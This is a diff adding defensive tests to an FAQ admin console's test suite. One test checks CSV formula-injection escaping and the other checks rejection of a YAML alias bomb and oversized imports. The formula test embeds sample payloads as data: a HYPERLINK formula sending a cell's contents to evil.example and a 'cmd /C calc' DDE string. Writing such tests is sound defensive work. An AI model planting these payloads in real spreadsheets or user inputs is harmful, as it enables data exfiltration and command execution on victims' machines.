@@ -1,6 +1,8 @@
 """Admin console on each database: FAQ versions, diff and rollback, CSV import/export, unanswered questions and their
 clusters, guide validation, analytics, incident detection and notices, and the admin pages behind the login."""
 
+import csv
+import io
 import re
 import textwrap
 import time
@@ -187,6 +189,29 @@ def test_csv_round_trip_preserves_every_entry(adb):
     parsed = service.parse_csv("\ufeff" + text)  # as saved by a spreadsheet
     assert [p.model_dump() for p in parsed] == expected
     assert do(service.import_entries, entries=parsed) == {"created": 0, "updated": 0, "unchanged": 60}
+
+
+def test_csv_export_escapes_formulas_from_merchant_text_and_import_undoes_it(adb):
+    """Merchant text reaches the FAQ through the unanswered list; in the export no cell starts a formula."""
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
+    entry = FaqIn(
+        id="formula_entry",
+        category="@分类",
+        question="-开票失败怎么办？",
+        alternates=[formula, "+1+cmd /C calc!A0"],
+        keywords=["\t=1+1"],
+        answer="=1+1 先检查网络。",
+    )
+    do(service.import_entries, entries=[entry])
+    with session_scope() as db_session:
+        text = service.to_csv(service.get_all(db_session=db_session))
+    row = next(r for r in csv.reader(io.StringIO(text)) if r[0] == "formula_entry")
+    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row
+    assert row[1:4] == ["'@分类", "'-开票失败怎么办？", f"'{formula}|+1+cmd /C calc!A0"]
+    assert row[5] == "'=1+1 先检查网络。"
+    parsed = next(p for p in service.parse_csv("\ufeff" + text) if p.id == "formula_entry")
+    assert parsed.model_dump() == FaqIn.model_validate(entry.model_dump()).model_dump()
+    assert do(service.import_entries, entries=service.parse_csv(text))["unchanged"] == 61
 
 
 def test_csv_import_reads_lists_and_flags_and_reports_bad_rows(adb):
@@ -700,6 +725,21 @@ def test_csv_export_and_import_in_the_console(console):
     response = post(console, "faq/import", csrf, {"text": "id,category\nx,y\n", "format": "csv"})
     assert response.status_code == 303 and "导入失败" in console.get("/console/admin/faq/import").text
     assert console.get("/console/admin/faq/export.yaml").text.startswith("- id:")
+
+
+def test_yaml_alias_bomb_import_fails_with_a_reason_in_chinese(console):
+    from tests.core.test_safe_yaml import alias_bomb
+
+    _, csrf = login(console, "admin1")
+    files = {"file": ("faq.yaml", alias_bomb(9).encode(), "application/yaml")}
+    response = post(console, "faq/import", csrf, {"format": "auto"}, files=files)
+    assert response.status_code == 303
+    assert "导入失败（YAML）：不支持 YAML 锚点和别名" in console.get("/console/admin/faq/import").text
+    pasted = "- id: big_entry\n  category: 测试\n  question: 很长吗？\n  answer: " + "发" * (1024 * 1024)
+    response = post(console, "faq/import", csrf, {"text": pasted, "format": "yaml"})  # 3 MB pasted
+    assert response.status_code in (303, 400)  # refused by the form parser (1 MB a field) or our 2 MB cap
+    with session_scope() as db_session:
+        assert service.get(db_session=db_session, faq_id="big_entry") is None
 
 
 def listed(client: TestClient) -> str:
